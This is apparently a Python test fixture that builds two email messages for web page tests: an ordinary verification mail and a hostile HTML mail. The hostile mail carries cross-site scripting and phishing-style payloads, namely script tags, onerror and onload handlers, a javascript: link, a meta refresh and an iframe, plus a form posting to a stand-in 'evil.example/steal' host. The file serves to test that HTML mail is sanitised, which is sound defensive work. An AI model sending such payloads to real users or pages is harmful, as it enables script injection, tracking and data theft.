"""Messages the web page tests send: a verification mail with an attachment and an inline
image, and a hostile one (scripts, handlers, javascript: links, a remote image, a form
posting elsewhere, a refresh)."""

from __future__ import annotations

from email.message import EmailMessage

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360f8cfc0f01f0005fe02fe0dd5a3c60000000049454e44ae426082"
)
HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<script>alert('script')</script></head><body>
<p>Your sign-in code is <b>739204</b>.</p>
<img src="https://tracker.example/pixel.png?u=1" alt="">
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">Click me</a>
<form action="https://evil.example/steal" method="post"><input name="q" value="1">
<button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('svg')"><circle r="1"/></svg>
</body></html>"""


def verification(to: str, subject: str = "Verify your account") -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "Shop <noreply@shop.example>", to, subject
    m.set_content("Your verification code is 482913. It expires in 10 minutes.")
    m.add_alternative(
        '<p>Your verification code is <b>482913</b>.</p><img src="cid:logo@shop">',
        subtype="html",
    )
    html = m.get_payload()[1]
    html.add_related(PIXEL, "image", "png", cid="<logo@shop>", filename="logo.png")
    m.add_attachment(b"invoice body", maintype="application", subtype="pdf", filename="inv.pdf")
    return m.as_bytes().replace(b"\n", b"\r\n")


def hostile(to: str) -> bytes:
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "Evil <evil@evil.example>", to, "<script>alert(1)</script>"
    m.set_content("Your sign-in code is 739204.")
    m.add_alternative(HOSTILE_HTML, subtype="html")
    return m.as_bytes().replace(b"\n", b"\r\n")
